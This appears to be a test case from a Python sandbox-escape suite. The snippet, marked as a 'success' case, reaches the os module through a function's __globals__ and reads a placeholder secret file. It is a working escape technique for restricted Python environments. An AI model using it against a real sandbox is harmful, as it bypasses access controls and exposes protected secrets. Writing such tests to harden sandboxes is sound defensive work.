# success: the secret file is read through a module found in a function's globals
f = type(show.__self__ if hasattr(show, "__self__") else show).__init__
os = f.__globals__["np"].os if hasattr(f.__globals__.get("np", 0), "os") else __import__("os")
fd = os.open("@SECRET_FILE@", os.O_RDONLY)
print(os.read(fd, 1000))
